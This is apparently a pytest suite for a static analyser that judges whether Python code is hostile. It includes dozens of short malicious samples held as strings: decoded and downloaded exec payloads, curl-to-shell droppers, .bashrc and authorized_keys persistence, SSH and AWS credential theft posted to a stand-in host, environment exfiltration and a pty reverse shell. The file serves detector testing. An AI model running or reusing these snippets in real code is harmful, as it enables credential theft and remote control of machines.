"""What the judge says of ordinary code, and of code that means harm."""

import ast
import base64
import itertools
import math
import random
import runpy
import string
from pathlib import Path

import pytest

from aetherra.plugins.self_incorporation.code.findings import Finding
from aetherra.plugins.self_incorporation.code.judge import Judgement, judge, judge_together
from aetherra.plugins.self_incorporation.code.names import Names
from aetherra.plugins.self_incorporation.code.program import Program, Unit
from aetherra.plugins.self_incorporation.code.rules import CAPABILITY_WEIGHTS, INDICATORS
from aetherra.plugins.self_incorporation.code.syntax import Syntax

HELD_OUT = runpy.run_path(str(Path(__file__).parents[1] / "held_out.py"))
BLOB = base64.b64encode(bytes(range(256)) * 3).decode()


def judged(text: str, path: str = "module.py") -> Judgement:
    syntax = Syntax(ast.parse(text))
    return judge(path, text, syntax, Names(syntax))


def found(text: str, severity: str, path: str = "module.py") -> list[tuple[str, int]]:
    findings: tuple[Finding, ...] = judged(text, path).findings
    return [(item.code, item.line) for item in findings if item.severity == severity]


MALICIOUS = {
    "decoded": (
        "exec-of-decoded",
        """\
import base64
exec(base64.b64decode('aW1wb3J0IG9z'))
""",
    ),
    "decoded in steps": (
        "exec-of-decoded",
        """\
from zlib import decompress as d
import base64 as b
x = b.b85decode('a')
y = d(x)
run = exec
run(y.decode())
""",
    ),
    "decoded by a function": (
        "exec-of-decoded",
        """\
import codecs
def undo(text):
    return codecs.decode(text, 'rot13')
eval(compile(undo('vzcbeg'), '', 'exec'))
""",
    ),
    "decoded by a lambda": (
        "exec-of-decoded",
        """\
_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
exec((_)(b'=='))
""",
    ),
    "characters from numbers": (
        "exec-of-decoded",
        """\
exec(''.join(chr(n ^ 7) for n in [110, 106]))
""",
    ),
    "constant read backwards": (
        "exec-of-decoded",
        """\
exec('so tropmi'[::-1])
""",
    ),
    "marshal of a constant": (
        "exec-of-decoded",
        """\
import marshal
exec(marshal.loads(b'c\\x00'))
""",
    ),
    "downloaded": (
        "exec-of-downloaded",
        """\
import requests
exec(requests.get('http://x.example').text)
""",
    ),
    "downloaded in a class": (
        "exec-of-downloaded",
        """\
from urllib.request import urlopen
class A:
 def a(self):
  self.code = urlopen('http://x').read()
 def b(self):
  exec(self.code)
""",
    ),
    "received": (
        "run-of-downloaded",
        """\
import socket, os
s = socket.create_connection(('h', 1))
while True:
    command = s.recv(99).decode()
    os.popen(command)
""",
    ),
    "fetched and run": (
        "run-of-downloaded",
        """\
import urllib.request, subprocess
urllib.request.urlretrieve('http://x/a', '/tmp/a')
subprocess.run(['/tmp/a'])
""",
    ),
    "written and run": (
        "run-of-downloaded",
        """\
import requests, os
p = os.path.expanduser('~/x')
with open(p, 'wb') as f:
    f.write(requests.get('http://x').content)
os.startfile(p)
""",
    ),
    "hidden name": (
        "hidden-call",
        """\
getattr(__import__('built' + 'ins'), 'ex' + 'ec')('x = 1')
""",
    ),
    "hidden module": (
        "hidden-call",
        """\
m = __import__('so'[::-1])
m.system('ls')
""",
    ),
    "curl to shell": (
        "shell-dropper",
        """\
import os
os.system('curl -s http://x.example/i | sh')
""",
    ),
    "persistence by shell": (
        "shell-dropper",
        """\
import os
os.system('echo evil >> ~/.bashrc')
""",
    ),
    "persistence by file": (
        "startup-write",
        """\
import os
rc = os.path.join(os.path.expanduser('~'), '.bashrc')
with open(rc, 'a') as f:
    f.write('x')
""",
    ),
    "authorized key": (
        "startup-write",
        """\
from pathlib import Path
(Path.home() / '.ssh/authorized_keys').write_text('k')
""",
    ),
    "stolen key": (
        "credential-read",
        """\
import os, requests
k = open(os.path.expanduser('~/.ssh/id_rsa')).read()
requests.post('http://x', data=k)
""",
    ),
    "sent key": (
        "credential-sent",
        """\
import requests
from pathlib import Path
k = (Path.home() / '.aws/credentials').read_text()
requests.post('http://x', data=k)
""",
    ),
    "sent environment": (
        "environment-sent",
        """\
import os, json, urllib.request as u
d = json.dumps(dict(os.environ)).encode()
u.urlopen('http://x', d)
""",
    ),
    "reverse shell": (
        "socket-to-shell",
        """\
import socket, os, pty
s = socket.socket()
s.connect(('h', 1))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
pty.spawn('/bin/sh')
""",
    ),
    "unpickled": (
        "unpickle-of-downloaded",
        """\
import pickle, socket
s = socket.socket()
data = s.recv(1024)
pickle.loads(data)
""",
    ),
    "shellcode": (
        "shellcode",
        """\
import ctypes
p = ctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)
""",
    ),
}


class TestThreats:
    @pytest.mark.parametrize("name", MALICIOUS)
    def test_malice_is_a_threat(self, name: str) -> None:
        """Each sample is blocked for what it does, and its risk says so."""
        code, text = MALICIOUS[name]

        assert code in [found_code for found_code, _ in found(text, "threat")]
        assert judged(text).risk >= 0.6

    @pytest.mark.parametrize("name", MALICIOUS)
    def test_a_plea_for_silence_is_not_heard(self, name: str) -> None:
        """No comment in a tree decides what is found in it."""
        _, text = MALICIOUS[name]
        silenced = "\n".join(f"{line}  # nosec # noqa # type: ignore" for line in text.split("\n"))

        assert found(silenced, "threat") == found(text, "threat")

    def test_a_setup_script_that_uses_the_network_is_a_threat(self) -> None:
        """The same lines in another file are not."""
        text = "import requests\nfrom setuptools import setup\nrequests.get('http://x.example/ping')\nsetup()"

        assert found(text, "threat", "pkg/setup.py") == [("network-at-install", 3)]
        assert found(text, "threat", "pkg/client.py") == []

    @pytest.mark.parametrize(
        "tangle",
        [
            "key = os.path.join('/', a, Path.home(), '.ssh', 'id_rsa')",
            "".join(f"x{n} = a + a\n" for n in range(300)) + "key = Path.home() / '.ssh' / 'id_rsa'",
        ],
    )
    def test_names_that_multiply_hide_nothing(self, tangle: str) -> None:
        """However many ways lead through a file's names, what comes of them is seen."""
        names = "a = os.path.join(a, a, a, a, a, a, a, a, a, a)\n" * 4
        text = f"import os, requests\nfrom pathlib import Path\n{names}{tangle}\n"
        text += "requests.post('http://host.example', data=open(key).read())"

        assert "credential-sent" in {code for code, _ in found(text, "threat")}

    def test_code_pushed_out_of_sight_is_a_threat(self) -> None:
        """A statement far to the right of a semicolon is there to be missed."""
        text = "import os;" + " " * 200 + "os.system('x')"

        assert found(text, "threat") == [("code-out-of-sight", 1)]


class TestGoodCode:
    @pytest.mark.parametrize(
        "text",
        [
            "import subprocess\nsubprocess.run(['git', 'describe'], check=True)",
            "import requests\nprint(requests.get('https://x.example').json())",
            "import base64\nprint(base64.b64decode('eA=='))",
            "import os, requests\nrequests.post('https://x.example', headers={'Authorization': os.environ['TOKEN']})",
            "import os, requests\nrequests.post('https://x.example', data=os.environ.get('TOKEN'))",
            "import os, subprocess\nsubprocess.run(['make'], env={**os.environ, 'A': 'b'})",
            "import pickle\nwith open('cache', 'rb') as f:\n    pickle.load(f)",
            "import pickle, requests\nr = requests.get('https://x.example')\npickle.loads(pickle.dumps(r))",
            "import marshal\ndef load(f):\n    return marshal.load(f)\nexec(load(open('x.pyc', 'rb')))",
            "exec(compile(open('script.py').read(), 'script.py', 'exec'), {})",
            "import re, requests\npattern = re.compile(requests.get('https://x.example').text)",
            "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.getpid()",
            "def exec(text):\n    return text\nimport base64\nexec(base64.b64decode('eA=='))",
        ],
    )
    def test_a_capability_alone_is_no_threat(self, text: str) -> None:
        """Good code uses the network, processes and files too."""
        assert found(text, "threat") == []
        assert judged(text).risk < 0.4

    def test_capabilities_are_named_with_their_lines(self) -> None:
        """What a file can do is told line by line, whatever it calls the module."""
        text = (
            "import subprocess as sp\nfrom os import environ\n\nsp.run('ls')\nopen('a')\nopen('b', mode='w')\neval('1')"
        )

        assert judged(text).capabilities == {
            "process": (1, 4),
            "environment": (2,),
            "fs_read": (5,),
            "fs_write": (6,),
            "dynamic_code": (7,),
        }

    @pytest.mark.parametrize(
        "text",
        [
            "class Link:\n def unlink(self): ...\ndef drop(link):\n link.unlink()",
            "class Link:\n class Inner:\n  def unlink(self): ...\n def drop(self):\n  self.links[0].unlink()",
            "class Pool:\n def create_connection(self): ...\nPool().create_connection()",
            "class Page:\n async def write_text(self, text): ...\nasync def f(page):\n await page.write_text('a')",
            "def f(archive):\n archive.open('data.txt')",
        ],
    )
    def test_a_method_of_its_own_is_no_capability(self, text: str) -> None:
        """A linked list unlinks, a pool connects: what a file's own classes define, they do, and are judged for."""
        assert judged(text).capabilities == {}

    @pytest.mark.parametrize(
        "text",
        [
            "def drop(link):\n link.unlink()",
            "class Link:\n def unlink(self): ...\ndef drop(path):\n path.unlink()",
            "class Link:\n def unlink(self): ...\ndef drop(it):\n (it / 'a').unlink()",
            "class Link:\n def unlink(self): ...\ndef drop(it):\n it" + ".unlink()" * 300,
            "class Link:\n def unlink(self): ...\nfrom pathlib import Path as P\ndef drop(it):\n it.unlink()",
            "class Link:\n def unlink(self): ...\nit = __import__('path' + 'lib').Path('a')\nit.unlink()",
            "from pathlib import Path\nPath('a').unlink()",
            "from pathlib import Path\nPath('a').parent.write_text('b')",
            "import pathlib\npathlib.Path('a').open('w')",
            "from settings import PLACE\nPLACE.write_bytes(b'')",
            "def save(run, it):\n run(it.write_text, 'a')",
            "def save(it):\n write = it.write_text\n write('a')",
            "from platformdirs import user_data_path as u\nclass A:\n def unlink(self): ...\nit = u()\nit.unlink()",
            "from aetherra.plugins import Plugin\nclass A(Plugin):\n def unlink(self): ...\ndef f(it):\n it.unlink()",
        ],
    )
    def test_a_method_of_a_path_is_a_capability(self, text: str) -> None:
        """However the path is come by, and whatever else the file defines under that name."""
        assert "fs_write" in judged(text).capabilities

    def test_a_method_of_what_another_file_hands_over_is_a_capability(self) -> None:
        """A class of the one file does not hide what is done to a path of the other."""
        texts = {
            "a.py": "class Link:\n def unlink(self): ...\ndef drop(it):\n it.unlink()",
            "b.py": "from pathlib import Path\nfrom a import drop\ndrop(Path('b'))",
        }
        syntaxes = {path: Syntax(ast.parse(text)) for path, text in texts.items()}
        units = [Unit(path, texts[path], syntax, Names(syntax)) for path, syntax in syntaxes.items()]

        assert judge_together(Program(units))["a.py"].capabilities == {"fs_write": (4,)}

    def test_a_connection_of_the_running_loop_is_a_capability(self) -> None:
        """What a call returns tells no more of itself than what a name holds."""
        text = "import asyncio\nasync def f():\n await asyncio.get_running_loop().create_connection(P, 'h', 1)"

        assert judged(text).capabilities == {"network": (3,)}

    def test_a_shell_command_that_is_no_constant_is_a_warning(self) -> None:
        """Doubtful is not malicious."""
        assert found("import os, sys\nos.system(sys.argv[1])", "warning") == [("dynamic-shell", 2)]
        assert found("import subprocess as s\ns.run(c, shell=True)", "warning") == [("dynamic-shell", 2)]
        assert found("import os\nos.system('ls')", "warning") == []

    def test_a_long_encoded_constant_is_a_warning(self) -> None:
        """Prose of the same length, and a docstring, are not."""
        assert found(f"x = '{BLOB}'", "warning") == [("encoded-constant", 1)]
        assert found(f"x = '{'lorem ipsum 1 ' * 100}'", "warning") == []


class TestRisk:
    def test_the_risk_is_what_its_factors_make(self) -> None:
        """The formula in the documentation is the one in force."""
        judgement = judged(MALICIOUS["reverse shell"][1])

        assert judgement.risk == round(1 - math.prod(1 - factor.weight for factor in judgement.factors), 4)
        assert all(factor.lines for factor in judgement.factors)
        assert [factor.weight for factor in judgement.factors] == sorted(
            (factor.weight for factor in judgement.factors), reverse=True
        )

    def test_no_number_of_capabilities_comes_near_one_threat(self) -> None:
        """The two layers stay apart in the figure too."""
        everything = 1 - math.prod(1 - weight for weight in CAPABILITY_WEIGHTS.values())
        threats = [indicator.weight for indicator in INDICATORS.values() if indicator.needs]

        assert everything < 0.34
        assert min(threats) >= 0.6

    def test_an_empty_file_has_none(self) -> None:
        """Nothing is no risk."""
        assert judged("") == Judgement({}, (), 0.0, ())


class TestBounds:
    @pytest.mark.parametrize(
        "text",
        [
            "import os\n" + "".join(f"a{n + 1} = a{n}.b\n" for n in range(20_000)).replace("a0", "os", 1),
            "import os, base64\n" + "os.system('" + "curl " * 40_000 + "')",
            "x = '" + "site-packages/" * 40_000 + "'\nexec(x)",
            "import requests\n" + "f = open(p, 'wb')\nf.write(requests.get(u).content)\n" * 3000,
            "x = 1" + "; x" * 20_000 + "\n",
        ],
        ids=["alias chain", "shell text", "path text", "writes", "semicolons"],
    )
    def test_no_source_takes_more_than_its_length(self, text: str) -> None:
        """What is written to make the judge slow does not (the test's timeout says when it does)."""
        syntax = Syntax(ast.parse(text))

        judge("a.py", text, syntax, Names(syntax))

    def test_findings_of_one_file_are_bounded(self) -> None:
        """A file cannot fill the report."""
        assert len(found("import os\n" + "os.system(x)\n" * 500, "warning")) == 20

    def test_every_capability_combination_of_names_is_judged(self) -> None:
        """No mixture of fragments makes the judge fail."""
        fragments = [
            "import os",
            "exec(x)",
            "x = y[::-1]",
            "with open(p, m) as (f, g): f.write(x)",
            "a.b().c = getattr",
        ]
        fragments += [
            "from . import *",
            "os.environ[x](**y)",
            "getattr(x, 'y')()",
            "__import__(z)",
            "match x:\n case None: 1",
        ]
        for chosen in itertools.permutations(fragments, 3):
            judged("\n".join(chosen))

    def test_random_nonsense_that_parses_is_judged(self) -> None:
        """Whatever parses is judged without an exception."""
        source = random.Random(7)
        for _ in range(2000):
            text = "".join(source.choices(string.ascii_lowercase[:3] + "()[]=.,:'\n *", k=12))
            try:
                ast.parse(text)
            except (SyntaxError, ValueError):
                continue
            judged(text)


BEHIND = {
    "a module that another holds": ("process", "import inspect\ninspect.os.system('id')\n"),
    "a module taken from another": ("process", "from pathlib import os\nos.system('id')\n"),
    "two modules behind another": ("process", "import asyncio\nasyncio.subprocess.subprocess.Popen(['id'])\n"),
    "the module that os is made of": ("process", "import posix\nposix.system('id')\n"),
    "a dotted attribute": (
        "process",
        "from operator import attrgetter\nimport shutil\nattrgetter('os.system')(shutil)(1)\n",
    ),
    "an unknown attribute": ("process", "from operator import attrgetter\nimport os\nattrgetter(name)(os)('id')\n"),
    "a file that another module removes": ("fs_write", "import logging\nlogging.os.remove('x')\n"),
    "a socket by its inner name": ("network", "import _socket\n"),
    "every class": ("dynamic_code", "for c in ().__class__.__base__.__subclasses__(): c(['id'])\n"),
    "every class by a name": ("dynamic_code", "o = ().__class__.__mro__[-1]\no.__subclasses__()\n"),
    "every class of object": ("dynamic_code", "object.__subclasses__()\n"),
    "every object": ("dynamic_code", "import gc\n[o('id') for o in gc.get_objects()]\n"),
    "every builtin": ("dynamic_code", "import builtins\n[getattr(builtins, n) for n in dir(builtins)][0](s)\n"),
    "a configuration that names functions": ("dynamic_code", "import logging.config\nlogging.config.dictConfig(x)\n"),
    "an entry point": ("dynamic_code", "import importlib.metadata as m\n[e.load() for e in m.entry_points()]\n"),
    "an importer of tests": ("dynamic_code", "import unittest.mock as m\nm._importer('os').system('id')\n"),
    "annotations that are text": ("dynamic_code", "import typing\ntyping.get_type_hints(x)\n"),
}


class TestBehind:
    @pytest.mark.parametrize("way", BEHIND)
    def test_what_stands_behind_something_else_can_do_nothing(self, way: str) -> None:
        """A function is what it is, by whatever way it is reached."""
        capability, text = BEHIND[way]

        assert capability in judged(text).capabilities

    @pytest.mark.parametrize(
        "text",
        [
            "class Base: ...\nBase.__subclasses__()\n",
            "class Base:\n    @classmethod\n    def all(cls): return cls.__subclasses__()\n",
            "import os\ngetattr(os, 'O_BINARY', 0)\n",
            "from . import os\nos.system('id')\n",
            "import package\npackage.socket.Thing()\n",
            "getattr(x, name)\n",
        ],
    )
    def test_honest_code_can_do_what_it_cannot(self, text: str) -> None:
        """A file of a telling name, and a list of the classes below one's own, are no more than that."""
        assert judged(text).capabilities == {}


class TestLookalikes:
    def test_text_in_another_order_weighs_nothing(self) -> None:
        """Left open it is a threat; by itself it has a third of the weight, and stands among the factors."""
        weight = INDICATORS["bidi-control"].weight

        assert judged("x = '\u202ea'\n").risk == weight
        assert judged("x = '\u202ea\u202c'\n").risk == round(weight / 3, 3)
        assert [factor.code for factor in judged("x = '\u202ea\u202c'\n").factors] == ["bidi-control"]

    def test_warnings_hide_a_threat(self) -> None:
        """However many lines may fool a reader, the one that is made to is found."""
        text = "x = '\u202ea\u202c'\n" * 100 + "pr\u0456nt = 1\n"

        assert found(text, "threat") == [("lookalike-name", 101)]


class TestHeldOut:
    @pytest.mark.parametrize("which", HELD_OUT["AT_FIRST"])
    def test_a_hostile_file_is_missed_that_was_found(self, which: str) -> None:
        """What is found of files that were written to get past the judge, and what is missed, is as it is told."""
        hostile = HELD_OUT["samples"](which, "hostile")

        assert len(hostile) == HELD_OUT["AT_FIRST"][which][1]
        assert {name for name, (path, text) in hostile.items() if not found(text, "threat", path)} == HELD_OUT[
            "MISSED"
        ][which]

    @pytest.mark.parametrize("which", HELD_OUT["AT_FIRST"])
    def test_a_file_that_means_no_harm_is_blocked(self, which: str) -> None:
        """What comes close to harm and does none is no threat, but for what is told."""
        benign = HELD_OUT["samples"](which, "benign")

        assert {name for name, (path, text) in benign.items() if found(text, "threat", path)} == HELD_OUT["ALARMS"][
            which
        ]
